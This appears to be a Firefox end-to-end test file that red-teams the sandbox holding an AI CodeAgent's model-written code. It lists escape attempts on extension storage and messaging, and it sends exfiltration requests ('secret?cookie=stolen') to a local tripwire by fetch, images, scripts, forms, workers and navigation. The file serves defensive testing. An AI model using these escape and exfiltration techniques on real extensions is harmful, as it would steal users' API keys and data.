"""The sandbox red team in Firefox: every escape of the Chrome sandbox's red team
(tests/e2e/test_sandbox.py), and Firefox's own ways to the extension, written by the model as a
CodeAgent step in a real turn, while a tripwire on 127.0.0.1 listens and the API key sits in the
extension's IndexedDB. Nothing may reach the tripwire, no step may print the key, and the step
after each attempt still runs. Then the page that hosts the worker, framed as the Python page
frames it, is tried directly: its origin is opaque, it has no extension APIs, no storage of the
extension's, and its own CSP stops what it would load or send. Last, what making its scripts web
accessible gives a web page: those scripts, and nothing else of the extension's.
"""

from __future__ import annotations

import json

import pytest

from tests.helpers.sandbox import ESCAPES
from tests.helpers.model_server import Reply
from tests.helpers.page_server import PageServer

from tests.helpers.panel_backends import FirefoxPanel

SECRET = "sk-firefox-sandbox-secret-4417"
# What Firefox has beyond Chrome: its `browser` namespace, and its own ways to storage.
FIREFOX_ESCAPES = {
    "browser_runtime": "import js\nawait js.browser.runtime.sendMessage({'target': 'background', 'type': 'get-settings'})",
    "browser_storage": "import js\nawait js.browser.storage.local.get(None)",
    "caches": "import js\nawait js.caches.keys()",
    "local_storage": "import js\nprint(js.localStorage.getItem('x'))",
    "a_fresh_indexed_db": "import js\njs.self.constructor.prototype.indexedDB.open('loot')",
}
ALL_ESCAPES = {**ESCAPES, **FIREFOX_ESCAPES}


@pytest.fixture(scope="module")
def code_chat(firefox, model):
    """The chat with a CodeAgent, and an API key its code must never see."""
    chat = FirefoxPanel(firefox)
    chat.configure(model.base_url, agent="code", api_key=SECRET)
    return chat


def code_step(chat, model, code: str) -> tuple[list, str]:
    """A new conversation whose model writes `code`, then ends with the next step's code;
    returns the steps' outputs and the answer."""
    model.reset()
    chat.new_conversation()
    model.script(Reply(text=f"```python\n{code}\n```"), Reply(text="```python\nfinal_answer('the next step ran')\n```"))
    chat.send("Run this")
    assert chat.wait_for_status("ok", "error", timeout=90) == "ok"
    return chat.code_outputs(), chat.answer()


def without_the_walls_reports(firefox) -> list:
    """The problems Firefox logged, less the reports of its CSP stopping something: those are
    the wall at work, and what an attempt is expected to leave."""
    return [problem for problem in firefox.take_problems() if "Content-Security-Policy:" not in problem]


def test_the_tripwire_hears_what_does_leave(code_chat, post):
    """The control: the chat page (an extension page) may fetch, and the tripwire hears it."""
    assert code_chat.run(f"fetch({json.dumps(post.url('control'))}).then((r) => r.status)") == 200
    assert [hit["path"] for hit in post.hits] == ["/control"]
    post.hits.clear()


@pytest.mark.parametrize("escape", ALL_ESCAPES)
def test_no_way_out_of_the_models_code(firefox, code_chat, model, post, escape):
    code = ALL_ESCAPES[escape].replace("URL", repr(post.url("secret?cookie=stolen"))) + "\nprint('GOT OUT')"
    outputs, answer = code_step(code_chat, model, code)
    (output, is_error), *_ = outputs
    assert is_error and "GOT OUT" not in output, outputs
    assert SECRET not in json.dumps(outputs)
    assert answer == "the next step ran"  # the sandbox still works (on the next step's model call, after the attempt)
    assert post.hits == []
    assert without_the_walls_reports(firefox) == []


def test_the_models_code_has_no_origin_no_extension_apis_and_no_page(code_chat, model):
    names = ("chrome", "browser", "document", "parent", "fetch", "indexedDB", "postMessage", "RTCPeerConnection")
    outputs, _ = code_step(code_chat, model, f"import js\nprint(js.self.origin, [getattr(js, n, None) for n in {names!r}])")
    assert outputs[0] == ["null [None, None, None, None, None, None, None, None]\n", False]


def sandbox_page_frame(firefox) -> tuple[str, str]:
    """The sandbox page, framed in an extension page as the Python page frames it; returns the
    page's context and the frame's."""
    page = firefox.open_tab(firefox.url("extension/options/options.html"))
    firefox.evaluate(page, """new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.sandbox.add("allow-scripts");
        frame.addEventListener("load", resolve, { once: true });
        frame.src = "../sandbox/sandbox.html";
        document.body.append(frame);
    })""")
    tree = firefox.send("browsingContext.getTree", {"root": page})["contexts"][0]
    (frame,) = [child["context"] for child in tree["children"] if child["url"].endswith("sandbox/sandbox.html")]
    return page, frame


def evaluate_apart(firefox, context: str, expression: str):
    """`expression` in a realm of its own over the frame's document (a WebDriver BiDi sandbox):
    the platform's own globals, before anything of TabAgent's took them away."""
    wrapped = f"(async () => JSON.stringify(await ({expression})))()"
    result = firefox.send("script.evaluate", {"expression": wrapped, "target": {"context": context, "sandbox": "probe"},
                                              "awaitPromise": True, "resultOwnership": "none"})
    assert result.get("type") == "success", result
    return json.loads(result["result"]["value"])


def test_the_sandbox_page_has_an_opaque_origin_no_extension_apis_and_no_storage(firefox, post):
    page, frame = sandbox_page_frame(firefox)
    found = evaluate_apart(firefox, frame, """(async () => {
        const attempt = async (what) => { try { return `opened: ${await what()}`; } catch (error) { return error.name; } };
        return {
            origin: self.origin, chrome: typeof chrome, browser: typeof browser,
            indexedDB: await attempt(() => new Promise((resolve, reject) => {
                const request = indexedDB.open("tabagent-secrets");
                request.onsuccess = () => resolve(request.result.name);
                request.onerror = () => reject(request.error);
            })),
            localStorage: await attempt(() => localStorage.length),
            cookie: await attempt(() => document.cookie),
            parentDocument: await attempt(() => String(parent.document)),
        };
    })()""")
    assert found == {"origin": "null", "chrome": "undefined", "browser": "undefined", "indexedDB": "SecurityError",
                     "localStorage": "SecurityError", "cookie": "SecurityError", "parentDocument": "SecurityError"}
    firefox.send("browsingContext.close", {"context": page})
    assert without_the_walls_reports(firefox) == []


def test_the_sandbox_pages_own_policy_stops_what_it_would_load_or_send(firefox, post):
    """The second wall, tried from the page that hosts the worker, with the platform's own
    fetch, images, scripts, frames, forms and a worker: the page's CSP (a <meta>, added to the
    extension pages' policy, which alone would let it connect) stops each."""
    page, frame = sandbox_page_frame(firefox)
    url = json.dumps(post.url("secret?cookie=stolen"))
    tried = evaluate_apart(firefox, frame, f"""(async () => {{
        const tried = {{}};
        try {{ await fetch({url}); tried.fetch = "REACHED"; }} catch (error) {{ tried.fetch = error.name; }}
        new Image().src = {url};
        const script = document.createElement("script"); script.src = {url}; document.head.append(script);
        const link = document.createElement("link"); link.rel = "prefetch"; link.href = {url}; document.head.append(link);
        const style = document.createElement("link"); style.rel = "stylesheet"; style.href = {url}; document.head.append(style);
        const inner = document.createElement("iframe"); inner.src = {url}; document.body.append(inner);
        const form = document.createElement("form"); form.action = {url}; form.method = "post"; document.body.append(form); form.submit();
        const worker = new Worker(URL.createObjectURL(new Blob([`fetch(${{JSON.stringify({url})}}).then(() => postMessage("REACHED"), (error) => postMessage(error.name))`])));
        tried.worker = await new Promise((resolve) => (worker.onmessage = (event) => resolve(event.data)));
        try {{ top.location.href = {url}; tried.top = "navigated"; }} catch (error) {{ tried.top = error.name; }}
        return tried;
    }})()""")
    assert tried == {"fetch": "TypeError", "worker": "TypeError", "top": "SecurityError"}, tried
    # The control, sent after every attempt: the only request the tripwire hears.
    assert firefox.evaluate(page, f"fetch({json.dumps(post.url('control'))}).then((r) => r.status)") == 200
    assert [hit["path"] for hit in post.hits] == ["/control"]
    post.hits.clear()
    firefox.send("browsingContext.close", {"context": page})
    assert without_the_walls_reports(firefox) == []


def test_a_web_page_may_load_the_sandboxs_scripts_and_nothing_else_of_the_extensions(firefox):
    """What web accessibility gives away, tried from a web page that knows the add-on's address
    (Firefox makes it up per install; the tests fix it): the sandbox's scripts, public code,
    load; its page, the key's module and the Python page do not."""
    paths = {"sandbox_script": "extension/sandbox/no-way-out.js", "sandbox_page": "extension/sandbox/sandbox.html",
             "secrets": "extension/platform/firefox/secrets.js", "python_page": "extension/offscreen/offscreen.html"}
    with PageServer(__import__("pathlib").Path(__file__).resolve().parents[1] / "e2e" / "pages") as site:
        page = firefox.open_tab(site.url("article.html"))
        loaded = firefox.evaluate(page, f"""(async () => {{
            const tried = {{}};
            for (const [name, url] of Object.entries({json.dumps({name: firefox.url(path) for name, path in paths.items()})})) {{
                tried[name] = await new Promise((resolve) => {{
                    const script = Object.assign(document.createElement("script"), {{ type: "module", src: url }});
                    script.onload = () => resolve("loaded");
                    script.onerror = () => resolve("refused");
                    document.head.append(script);
                }});
            }}
            return tried;
        }})()""")
        firefox.send("browsingContext.close", {"context": page})
    assert loaded == {"sandbox_script": "loaded", "sandbox_page": "refused", "secrets": "refused", "python_page": "refused"}
    refusals = firefox.take_problems()  # Firefox's own words for the refusals, and nothing else
    assert all(" may not load or link to moz-extension://" in problem for problem in refusals), refusals


def test_the_sandbox_page_cannot_navigate_itself_off_the_extension(firefox, post):
    """Its own location is the one way out a page's CSP does not govern. Firefox does not follow
    it (it says nothing about why): the frame stays the sandbox page, and nothing is heard."""
    page, frame = sandbox_page_frame(firefox)
    url = json.dumps(post.url("secret?cookie=stolen"))
    firefox.send("script.evaluate", {"expression": f"location.href = {url}", "target": {"context": frame, "sandbox": "probe"},
                                     "awaitPromise": False, "resultOwnership": "none"})
    # The control, sent after the attempt: the only request the tripwire hears.
    assert firefox.evaluate(page, f"fetch({json.dumps(post.url('control'))}).then((r) => r.status)") == 200
    assert [hit["path"] for hit in post.hits] == ["/control"]
    post.hits.clear()
    tree = firefox.send("browsingContext.getTree", {"root": page})["contexts"][0]
    assert [child["url"] for child in tree["children"]] == [firefox.url("extension/sandbox/sandbox.html")]
    firefox.send("browsingContext.close", {"context": page})
    assert without_the_walls_reports(firefox) == []


def test_the_sandbox_page_framed_without_the_sandbox_attribute_starts_nothing(firefox):
    """In Firefox the frame's sandbox attribute is what makes the origin opaque: framed without
    it, the page would have the extension's origin, so it refuses to be the sandbox, and says so."""
    page = firefox.open_tab(firefox.url("extension/options/options.html"))
    told = firefox.evaluate(page, """new Promise((resolve) => {
        const frame = document.createElement("iframe");
        addEventListener("message", (event) => event.source === frame.contentWindow && resolve(event.data));
        frame.src = "../sandbox/sandbox.html";
        document.body.append(frame);
    })""")
    assert told == {"type": "boot-failed", "error": "the sandbox page was framed without the sandbox attribute"}
    firefox.send("browsingContext.close", {"context": page})
